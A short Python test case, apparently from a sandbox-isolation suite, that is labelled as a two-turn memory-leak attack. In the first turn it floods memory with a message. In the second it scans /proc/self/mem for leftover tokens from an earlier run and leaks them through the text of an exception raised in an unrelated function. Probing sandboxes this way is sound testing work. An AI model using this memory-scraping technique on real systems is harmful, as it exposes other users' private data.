# {"attack": "Fills its memory with a message; the next student searches the memory that it gets.", "breach": "leak", "turns": 2}

import re

kept = [TARGETS["message"] + str(number) for number in range(100_000)] if TARGETS["turn"] == 1 else []


def search():
    pattern = re.compile(rb"msg[0-9a-f]{16}")
    found = []
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if "rw" not in line or end - start > 2**28:
                continue
            try:
                memory.seek(start)
                found += pattern.findall(memory.read(end - start))
            except (OSError, ValueError):
                continue
    return found


found = search() if TARGETS["turn"] == 2 else []


def double(x):
    raise ValueError(str(found[:5]))
